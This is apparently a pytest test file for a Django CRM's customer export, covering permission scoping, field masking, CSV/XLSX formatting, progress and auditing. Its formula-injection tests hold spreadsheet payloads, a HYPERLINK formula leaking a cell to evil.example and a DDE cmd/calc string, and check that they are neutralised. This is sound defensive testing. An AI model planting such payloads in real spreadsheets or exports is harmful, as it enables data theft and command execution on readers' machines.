"""Exporting the customer list through the service, as the worker does it, and reading the files back."""

import datetime
import random

import pytest
from django.apps import apps
from django.core.exceptions import PermissionDenied
from django.utils import translation
from phonenumber_field.phonenumber import to_python

from crm.exports import services
from crm.exports.models import ExportJob, ExportStatus
from crm.web.templatetags.crm_tags import masked, phone
from customers.choices import CustomFieldType, Level, Status
from customers.exports import phone_text
from customers.models import Customer
from tests.factories import CustomerFactory

from .conftest import BOM, as_dicts, read_job, read_rows

pytestmark = pytest.mark.django_db


def export(user, query="", fmt="xlsx", language="en") -> ExportJob:
    job = services.export_job_create(
        actor=user, model_key="customers.customer", query=query, fmt=fmt, language=language
    )
    services.export_job_run(job.pk)
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE, job.error
    return job


def names(job) -> list[str]:
    return [row["Customer name"] for row in as_dicts(read_job(job))]


# ------------------------------------------------------------------------------------ scope and filters


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_reps_export_holds_exactly_his_scoped_filtered_rows(grant, sales_rep, other_rep, fmt):
    # given a rep allowed to export, his customers, another rep's and the public pool's
    rep = grant(sales_rep, "customers.export_customer")
    CustomerFactory(owner=rep, name="我的A级客户", level=Level.A)
    CustomerFactory(owner=rep, name="我的B级客户", level=Level.B)
    CustomerFactory(owner=other_rep, name="同事的A级客户", level=Level.A)
    CustomerFactory(owner=None, name="公海A级客户", level=Level.A)
    # when he exports the list filtered to level A
    job = export(rep, "level=A", fmt)
    # then the file holds the level-A customers he can see (his own and the pool's), nobody else's
    assert sorted(names(job)) == ["公海A级客户", "我的A级客户"]
    assert job.rows_total == job.rows_done == 2


def test_the_export_matches_the_list_page_for_the_same_query(grant, client_as, sales_rep, other_rep, tag_factory):
    rep = grant(sales_rep, "customers.export_customer")
    vip = tag_factory(name="VIP")
    for i in range(6):
        province = "广东省" if i < 4 else "上海市"
        CustomerFactory(owner=rep, name=f"客户{i}", tags=[vip] if i % 2 else [], province=province)
    CustomerFactory(owner=other_rep, name="别人的VIP", tags=[vip], province="广东省")
    query = f"tag={vip.pk}&province=广东省&sort=name"
    # when the rep exports what his list shows for this query
    page = client_as(rep).get(f"/customers/?{query}")
    on_screen = [c.name for c in page.context["page"].object_list]
    job = export(rep, query)
    # then the export holds the same rows in the same order
    assert names(job) == on_screen == ["客户1", "客户3"]


def test_search_and_sort_from_the_query_string_are_respected(grant, sales_rep):
    rep = grant(sales_rep, "customers.export_customer")
    for name in ["张三丰", "张无忌", "李寻欢"]:
        CustomerFactory(owner=rep, name=name, company="")
    job = export(rep, "q=张&sort=-name")
    assert names(job) == sorted(["张三丰", "张无忌"], reverse=True)


def test_deleted_customers_are_not_exported(grant, admin_user):
    from customers import services as customer_services

    kept, binned = CustomerFactory(owner=admin_user, name="在用"), CustomerFactory(owner=admin_user, name="已删除")
    customer_services.customer_delete(actor=admin_user, customer=binned)
    assert names(export(admin_user)) == [kept.name]


# ---------------------------------------------------------------------------------------- columns


def test_columns_show_what_the_customer_page_shows(admin_user, teams, tag_factory, custom_field_factory):
    # given a customer with every exported field filled, tags and custom values
    custom_field_factory(key="size", label="规模", label_en="Company size", field_type=CustomFieldType.CHOICE)
    custom_field_factory(key="budget", label="预算", label_en="Budget", field_type=CustomFieldType.NUMBER)
    custom_field_factory(key="retired", label="停用字段", label_en="Retired", is_active=False)
    customer = CustomerFactory(
        owner=admin_user, name="上海华信科技有限公司", company="华信科技", title="采购经理", mobile="+8613912345678",
        phone="+862162345678", email="buyer@huaxin.cn", province="上海市", city="上海市", district="浦东新区",
        address="人民路1号", level=Level.A, status=Status.DEAL, source="referral", industry="it",
        tags=[tag_factory(name="VIP"), tag_factory(name="Partner")],
        custom={"size": "甲", "budget": 120, "retired": "x"},
    )
    contacted = datetime.datetime(2026, 3, 1, 16, 30, tzinfo=datetime.UTC)  # 00:30 next day in Shanghai
    Customer.objects.filter(pk=customer.pk).update(last_contacted_at=contacted)
    # when an admin exports in English
    row = as_dicts(read_job(export(admin_user)))[0]
    # then each column holds the value as people read it on the customer page
    assert row["Customer name"] == "上海华信科技有限公司"
    assert row["Company"] == "华信科技"
    assert row["Job title"] == "采购经理"
    assert row["Mobile"] == "139 1234 5678"
    assert row["Phone"] == "021 6234 5678"
    assert row["Email"] == "buyer@huaxin.cn"
    region = (row["Province"], row["City"], row["District"], row["Address"])
    assert region == ("上海市", "上海市", "浦东新区", "人民路1号")
    assert row["Level"] == "A · Key account"
    assert row["Lifecycle status"] == "Closed deal"
    assert row["Source"] == "Referral"
    assert row["Industry"] == "IT / Internet"
    assert set(row["Tags"].split("、")) == {"VIP", "Partner"}
    assert row["Owner"] == str(admin_user)
    assert row["Team"] == teams.hq.name
    # a date cell holding the wall-clock time in Asia/Shanghai (spreadsheets have no time zones)
    assert row["Last contacted"] == datetime.datetime(2026, 3, 2, 0, 30)  # noqa: DTZ001
    assert isinstance(row["Created"], datetime.datetime)
    assert row["Company size"] == "甲"
    assert row["Budget"] == 120  # a number cell
    assert "Retired" not in row


def test_pool_customers_have_an_empty_owner(admin_user):
    CustomerFactory(owner=None, name="公海客户")
    row = as_dicts(read_job(export(admin_user, fmt="csv")))[0]
    assert (row["Owner"], row["Team"]) == ("", "")


# ------------------------------------------------------------------------------------ sensitive fields


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_roles_without_view_sensitive_get_the_list_pages_masked_values(marketing_user, fmt):
    # given marketing (may export, may not see sensitive fields) and a pool customer it can see
    CustomerFactory(owner=None, mobile="+8613912345678", phone="+862162345678", email="buyer@huaxin.cn")
    # when marketing exports
    row = as_dicts(read_job(export(marketing_user, fmt=fmt)))[0]
    # then mobile, phone and email are masked exactly as the list page masks them
    assert row["Mobile"] == masked(phone(to_python("+8613912345678")), False) == "139****5678"
    assert row["Phone"] == "021****5678"
    assert row["Email"] == "b***@huaxin.cn"


def test_roles_with_view_sensitive_get_the_full_values(sales_manager):
    CustomerFactory(owner=None, mobile="+8613912345678", email="buyer@huaxin.cn")
    row = as_dicts(read_job(export(sales_manager)))[0]
    assert (row["Mobile"], row["Email"]) == ("139 1234 5678", "buyer@huaxin.cn")


def test_mobiles_are_formatted_exactly_as_the_phone_filter_formats_them():
    # The exporter cuts +86 mobiles itself and builds other +86 numbers without parsing them (speed).
    rng = random.Random(7)
    samples = [f"+861{p}{rng.randint(0, 99_999_999):08d}" for p in range(30, 100) for _ in range(3)]
    areas = ["10", "20", "21", "22", "23", "24", "25", "27", "28", "29", "311", "351", "371", "410", "512", "531",
             "571", "591", "731", "755", "769", "851", "871", "898", "991"]
    samples += [f"+86{area}{rng.randint(2_000_000, 8_999_999)}" for area in areas]  # 7-digit subscribers
    samples += [f"+86{area}{rng.randint(20_000_000, 89_999_999)}" for area in areas]  # 8-digit subscribers
    samples += ["+864001234567", "+8695511", "+14155550123", "+85291234567", "+447911123456", "+8612345678901"]
    for raw in samples:
        assert phone_text(raw) == phone(to_python(raw)), raw


# ------------------------------------------------------------------------------------ formula injection


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralized(admin_user, fmt):
    # given customers whose fields start like formulas
    CustomerFactory(
        owner=admin_user, name='=HYPERLINK("http://evil.example/?leak="&A2,"Click")', company="+86 138 0000 0000",
        title="-2+3", address="@SUM(1+1)*cmd|' /C calc'!A0", district="\t=1+1", city="\r=1+1",
    )
    # when they are exported
    job = export(admin_user, fmt=fmt)
    # then each such cell is plain text with a leading apostrophe, never a formula
    row = as_dicts(read_job(job))[0]
    assert row["Customer name"] == '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    assert row["Company"] == "'+86 138 0000 0000"
    assert row["Job title"] == "'-2+3"
    assert row["Address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["District"] == "'\t=1+1"
    assert row["City"].startswith("'")
    if fmt == "xlsx":
        from openpyxl import load_workbook

        with job.file.open("rb") as handle:
            sheet = load_workbook(handle).worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_custom_field_label_that_looks_like_a_formula_is_neutralized_too(admin_user, custom_field_factory):
    custom_field_factory(key="evil", label="=1+1", label_en="=1+1")
    CustomerFactory(owner=admin_user, custom={"evil": "@x"})
    row = as_dicts(read_job(export(admin_user)))[0]
    assert row["'=1+1"] == "'@x"


def test_ordinary_text_and_numbers_are_left_alone(admin_user, custom_field_factory):
    custom_field_factory(key="delta", label="差额", label_en="Delta", field_type=CustomFieldType.NUMBER)
    CustomerFactory(owner=admin_user, name="普通客户 - 上海", custom={"delta": -5})
    row = as_dicts(read_job(export(admin_user)))[0]
    assert row["Customer name"] == "普通客户 - 上海"
    assert row["Delta"] == -5  # a negative number is a number, not a formula


# ------------------------------------------------------------------------------------- languages, CSV


def test_a_chinese_export_has_chinese_headers_and_labels(admin_user):
    CustomerFactory(owner=admin_user, level=Level.A, status=Status.LOST)
    with translation.override("zh-hans"):
        level_a, lost = str(Level.A.label), str(Status.LOST.label)
    assert level_a != "A · Key account", "the Chinese catalogue must translate the level"
    rows = read_job(export(admin_user, language="zh-hans"))
    header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[:6] == ["客户名称", "公司", "职位", "手机", "电话", "邮箱"]
    assert (row["客户等级"], row["客户状态"]) == (level_a, lost)


def test_the_download_name_is_in_the_requesters_language(admin_user):
    CustomerFactory(owner=admin_user)
    assert services.download_name(export(admin_user, language="zh-hans")).startswith("客户-")
    assert services.download_name(export(admin_user, fmt="csv", language="en")).startswith("customers-")


def test_the_xlsx_reads_the_same_in_calamine_as_in_openpyxl(admin_user):
    # python-calamine is what the CRM's own import reads spreadsheets with
    from python_calamine import CalamineWorkbook

    CustomerFactory(owner=admin_user, name="A & <B> 公司", address=" 前导空格")
    job = export(admin_user)
    with job.file.open("rb") as handle:
        sheet = CalamineWorkbook.from_filelike(handle).get_sheet_by_index(0).to_python()
    by_openpyxl = [["" if value is None else value for value in row] for row in read_job(job)]
    assert sheet == by_openpyxl  # empty cells: calamine says "", openpyxl None
    assert sheet[1][0] == "A & <B> 公司" and sheet[1][9] == " 前导空格"


def test_csv_is_utf8_with_a_byte_order_mark(admin_user):
    CustomerFactory(owner=admin_user, name="北京盛世科技, \"总部\"", address="第一行\n第二行")
    job = export(admin_user, fmt="csv", language="zh-hans")
    with job.file.open("rb") as handle:
        data = handle.read()
    # Excel and WPS read a BOM-less CSV as GBK on Chinese Windows; with the BOM they read UTF-8.
    assert data.startswith(BOM)
    row = as_dicts(read_rows(data, "csv"))[0]
    assert row["客户名称"] == "北京盛世科技, \"总部\""
    assert row["地址"] == "第一行\n第二行"


# ----------------------------------------------------------------------------------- progress, reruns


def test_progress_is_written_while_rows_are_streamed(admin_user, monkeypatch):
    from crm.exports.writers import XlsxWriter

    for _ in range(7):
        CustomerFactory(owner=admin_user)
    monkeypatch.setattr(services, "CHUNK_SIZE", 2)
    monkeypatch.setattr(services, "PROGRESS_EVERY", 2)
    seen = []
    original = XlsxWriter.write_rows

    def watch(writer, rows):
        job = ExportJob.objects.get()
        seen.append((job.status, job.rows_done, job.rows_total))
        original(writer, rows)

    monkeypatch.setattr(XlsxWriter, "write_rows", watch)
    job = export(admin_user)
    # what a user polling the job's page sees before each chunk is written, then at the end
    assert seen == [("running", 0, 7), ("running", 2, 7), ("running", 4, 7), ("running", 6, 7)]
    assert (job.rows_done, job.rows_total, job.percent) == (7, 7, 100)
    assert job.started_at <= job.finished_at


def test_the_audit_trail_holds_the_request_and_each_status_change_not_the_progress(admin_user, monkeypatch):
    for _ in range(5):
        CustomerFactory(owner=admin_user)
    monkeypatch.setattr(services, "CHUNK_SIZE", 1)
    monkeypatch.setattr(services, "PROGRESS_EVERY", 1)
    job = export(admin_user, "level=B", fmt="csv")
    events = apps.get_model("exports", "ExportJobEvent").objects.filter(pgh_obj=job).order_by("pgh_id")
    history = [(e.pgh_label, e.status) for e in events]
    assert history == [("insert", "queued"), ("update", "running"), ("update", "done")]
    first = events[0]
    assert (first.created_by_id, first.query, first.format) == (admin_user.pk, "level=B", "csv")
    assert first.pgh_context.metadata["user"] == admin_user.pk
    assert events[2].rows_total == 5


def test_running_a_finished_job_again_changes_nothing(admin_user):
    CustomerFactory(owner=admin_user)
    job = export(admin_user)
    file_name, finished = job.file.name, job.finished_at
    events = apps.get_model("exports", "ExportJobEvent").objects.filter(pgh_obj=job).count()
    services.export_job_run(job.pk)
    job.refresh_from_db()
    assert (job.status, job.file.name, job.finished_at) == (ExportStatus.DONE, file_name, finished)
    assert apps.get_model("exports", "ExportJobEvent").objects.filter(pgh_obj=job).count() == events


def test_a_job_a_dead_worker_left_running_is_started_over(admin_user):
    CustomerFactory(owner=admin_user)
    job = services.export_job_create(actor=admin_user, model_key="customers.customer", query="", fmt="csv")
    ExportJob.objects.filter(pk=job.pk).update(status=ExportStatus.RUNNING, rows_done=500)
    services.export_job_run(job.pk)
    job.refresh_from_db()
    assert (job.status, job.rows_done) == (ExportStatus.DONE, 1)


def test_an_export_fails_cleanly_when_the_right_was_withdrawn_meanwhile(grant, sales_rep):
    rep = grant(sales_rep, "customers.export_customer")
    job = services.export_job_create(actor=rep, model_key="customers.customer", query="", fmt="csv", language="en")
    rep.user_permissions.clear()
    services.export_job_run(job.pk)
    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED
    assert job.error == "You may no longer export these records."
    assert not job.file


def test_requesting_an_export_needs_the_export_permission(sales_rep):
    with pytest.raises(PermissionDenied):
        services.export_job_create(actor=sales_rep, model_key="customers.customer", query="", fmt="csv")
    assert not ExportJob.objects.exists()


def test_rows_are_read_in_a_bounded_number_of_queries(admin_user, sales_rep, other_rep, monkeypatch,
                                                      django_assert_max_num_queries, tag_factory):
    vip = tag_factory(name="VIP")
    for i in range(30):
        CustomerFactory(owner=[admin_user, sales_rep, other_rep][i % 3], tags=[vip])
    job = services.export_job_create(actor=admin_user, model_key="customers.customer", query="", fmt="xlsx")
    monkeypatch.setattr(services, "CHUNK_SIZE", 10)
    monkeypatch.setattr(services, "PROGRESS_EVERY", 10)
    # 30 rows in 3 chunks: owners and teams are looked up once each (then cached), tags come with the rows;
    # the rest is the job's own bookkeeping. One query per row would be 60+.
    with django_assert_max_num_queries(20):
        services.export_job_run(job.pk)
    job.refresh_from_db()
    assert job.rows_done == 30
